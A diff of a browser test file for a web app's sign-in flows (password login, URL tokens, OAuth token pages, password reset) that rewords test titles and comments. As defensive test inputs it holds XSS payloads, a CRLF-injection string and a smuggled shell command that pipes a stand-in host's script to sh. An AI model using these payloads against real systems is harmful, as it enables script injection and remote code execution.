@@ -1,4 +1,4 @@
-/** Signing in, by a password and by a token in the address, and the pages around it: what each shows, and keeps. */
+/** Signing in, by a password and by a token in the URL, and the pages around it. */
 import { accountRoutes } from '@flockwork/contract/account'
 import { authRoutes, type Profile } from '@flockwork/contract/auth'
 import { expect, test, vi } from 'vitest'
@@ -30,7 +30,7 @@ function tokenOf({ id, username }: Profile): string {
   return `${part({ alg: 'EdDSA' })}.${part(claims)}.signature`
 }
 
-/** Nothing of `secret` is in the address, in what the tab remembers or in what the browser stores. */
+/** `secret` is neither in the URL nor in the tab's or the browser's storage. */
 function expectGone(app: OpenedApp, secret: string): void {
   const remembered = [location.href, history.state, { ...sessionStorage }, [...app.stored.values()]]
   expect(JSON.stringify(remembered)).not.toContain(secret)
@@ -42,7 +42,7 @@ async function signIn(): Promise<void> {
   await submit.click()
 }
 
-test('what was typed survives the change to a new account and back', async () => {
+test('input survives switching to registration and back', async () => {
   await openApp()
   await identifier.fill('ana')
   await password.fill('half a pass')
@@ -55,7 +55,7 @@ test('what was typed survives the change to a new account and back', async () =>
   await expect.element(page.getByRole('textbox', { name: 'Full name' })).toHaveValue('Ana Gómez')
 })
 
-test('a short password, a wrong name and a taken one are said where they are', async () => {
+test('a short password, an invalid name and a taken one are shown at their fields', async () => {
   const { server, world } = await openApp()
   server.answer(authRoutes.register, ({ body }) => {
     if (body.username === 'root') return refusal(409, 'conflict', 'This username is taken')
@@ -102,7 +102,7 @@ test.for([
     answer: refusal(403, 'forbidden', 'This account is deactivated'),
     words: 'This account is deactivated',
   },
-])('$state is said at the form, and what was typed stays', async ({ answer, words }) => {
+])('$state is shown in the form, and its input stays', async ({ answer, words }) => {
   const { server } = await openApp()
   server.answer(authRoutes.login, () => answer.clone())
   await signIn()
@@ -111,7 +111,7 @@ test.for([
   await expect.element(password).toHaveValue(PASSWORD)
 })
 
-test('a server that is gone, or a network, loses nothing that was typed', async () => {
+test('while the server or the network is down, input stays', async () => {
   const { server } = await openApp({ world: { accounts: [person('ana')] } })
   server.isReachable = false
   await signIn()
@@ -132,7 +132,7 @@ test('a server that is gone, or a network, loses nothing that was typed', async 
   await expect.element(composer).toBeVisible()
 })
 
-test('a failure at the provider is said once, whatever its words', async () => {
+test('a failure at the provider is shown once, whatever its text', async () => {
   const app = await openApp({ path: `/?error=${encodeURIComponent('<img src=x onerror=alert(1)>')}` })
   await expect.element(alert('Authentication Failed')).toBeVisible()
   expect(document.images).toHaveLength(0)
@@ -143,7 +143,7 @@ test('a failure at the provider is said once, whatever its words', async () => {
   await expect.element(alert('Authentication Failed')).not.toBeInTheDocument()
 })
 
-/** Nobody is signed in, and the server knows whose `token` is. */
+/** Nobody is signed in, and the server knows whose `token` it is. */
 function knows(token: string, whose: Profile): Options {
   return {
     answers: (server) =>
@@ -151,7 +151,7 @@ function knows(token: string, whose: Profile): Options {
   }
 }
 
-test('a token that this browser did not ask for is taken only after a question', async () => {
+test('a token that this browser did not request is accepted only after a confirmation', async () => {
   const tara = person('tara')
   const token = tokenOf(tara)
   const path = `/?token=${token}&username=somebody_else&next=/agents`
@@ -163,7 +163,7 @@ test('a token that this browser did not ask for is taken only after a question',
   expectGone(app, token)
 
   await app.reload(path)
-  // from here on the session is by this token alone, without a cookie
+  // from here on the session has only this token, no cookie
   Object.assign(app.world, worldOf(tara))
   app.server.answer(authRoutes.refresh, () => refusal(401, 'unauthorized'))
   await button('Continue').click()
@@ -173,7 +173,7 @@ test('a token that this browser did not ask for is taken only after a question',
   await expect.element(title('Agents')).toBeVisible()
 })
 
-test('a token that this browser asked for is taken at once, the next one is not', async () => {
+test('a token that this browser requested is accepted at once, the next one is not', async () => {
   const begun = person('begun')
   const token = tokenOf(begun)
   const app = await openApp(knows(token, begun))
@@ -194,7 +194,7 @@ test('a token that this browser asked for is taken at once, the next one is not'
 })
 
 test.for(['nonsense', 'a.b.c', '%0D%0Aevil', '✓'])(
-  'an invalid token is said in a toast: %s',
+  'an invalid token is reported in a toast: %s',
   async (token) => {
     await openApp({ path: `/?token=${token}` })
     await expect
@@ -205,7 +205,7 @@ test.for(['nonsense', 'a.b.c', '%0D%0Aevil', '✓'])(
   },
 )
 
-test('while the server is away the token stays for another try', async () => {
+test('while the server is down the token stays for another attempt', async () => {
   const away = person('away')
   const { server } = await openApp({
     path: `/?token=${tokenOf(away)}`,
@@ -219,7 +219,7 @@ test('while the server is away the token stays for another try', async () => {
   await expect.element(heading('Continue as away?')).toBeVisible()
 })
 
-test('/oauth/token shows the token, with its commands, and nothing of it is left after a reload', async () => {
+test('/oauth/token shows the token with its commands, and nothing of it remains after a reload', async () => {
   const token = tokenOf(person('ana'))
   const app = await openApp({ path: `/oauth/token?token=${token}` })
   await expect.element(heading('Authentication Successful')).toBeVisible()
@@ -227,7 +227,7 @@ test('/oauth/token shows the token, with its commands, and nothing of it is left
   await expect.element(page.getByText('This token expires in 1 hour.')).toBeVisible()
   expect(location.pathname + location.search).toBe('/oauth/token')
   expectGone(app, token)
-  // the buttons are beside what they copy
+  // each button is beside the text that it copies
   for (const [copy, text] of [
     [button('Copy token'), page.getByRole('textbox')],
     [button('Copy code').first(), page.getByRole('region', { name: 'In a test container' })],
@@ -254,7 +254,7 @@ test.for([
   '<script>document.title="owned"</script><img src=x onerror="document.title=1">',
   '‮gnp.exe רשומה שגויה',
   'x'.repeat(5000),
-])('/oauth/token says what failed, however hostile its words are: %$', async (text) => {
+])('/oauth/token shows the error, however hostile its text: %$', async (text) => {
   await openApp({ path: `/oauth/token?error=${encodeURIComponent(text)}&token=a.b.c` })
   await expect.element(heading('Authentication Failed')).toBeVisible()
   await expect.element(page.getByRole('region', { name: 'What went wrong' })).toHaveTextContent(text)
@@ -266,13 +266,13 @@ test.for([
   expect(overflow()).toBeLessThanOrEqual(0)
 })
 
-test('/oauth/token takes nothing for a token that is none', async () => {
+test("/oauth/token rejects what isn't a token", async () => {
   await openApp({ path: `/oauth/token?token=${encodeURIComponent('";curl evil.example|sh;".e30.x')}` })
   await expect.element(page.getByText('Invalid token received from server')).toBeVisible()
   await expect.element(page.getByText('curl')).not.toBeInTheDocument()
 })
 
-test('/oauth/success leads to the messages', async () => {
+test('/oauth/success redirects to the feed', async () => {
   vi.useFakeTimers({ shouldAdvanceTime: true })
   const app = await openApp({ me: person('ana'), path: '/oauth/success' })
   await expect.element(heading('Authentication Successful')).toBeVisible()
@@ -285,7 +285,7 @@ test('/oauth/success leads to the messages', async () => {
 const newPassword = page.getByLabelText('New password', { exact: true })
 const save = button('Set password')
 
-test('a reset link sets a new password, and each failure leaves what was typed', async () => {
+test('a reset link sets a new password, and each failure leaves the form filled in', async () => {
   const app = await openApp({ path: '/reset#token=a-very-secret-token' })
   app.server.answer(accountRoutes.resetPassword, ({ body }) =>
     body.password === 'password' ? wrongFields({ password: 'This password is too common' }) : undefined,
@@ -332,7 +332,7 @@ test.for([
   ])
 })
 
-test('a reset link that was used says so, and a second one in the same window is taken', async () => {
+test('a used reset link says so, and opening a second one in the same window works', async () => {
   const app = await openApp({ path: '/reset#token=used' })
   app.server.answer(accountRoutes.resetPassword, () => refusal(410, 'gone'))
   await newPassword.fill('an entirely new password')
@@ -347,7 +347,7 @@ test('a reset link that was used says so, and a second one in the same window is
   expect(location.pathname + location.hash).toBe('/reset')
 })
 
-test('somebody who is signed in stays so when they set a password for another account', async () => {
+test('a signed-in user stays signed in when setting a password for another account', async () => {
   const app = await openApp({ me: person('ana'), path: '/reset#token=of-somebody-else' })
   app.server.answer(accountRoutes.resetPassword, () => undefined)
   await newPassword.fill('an entirely new password')
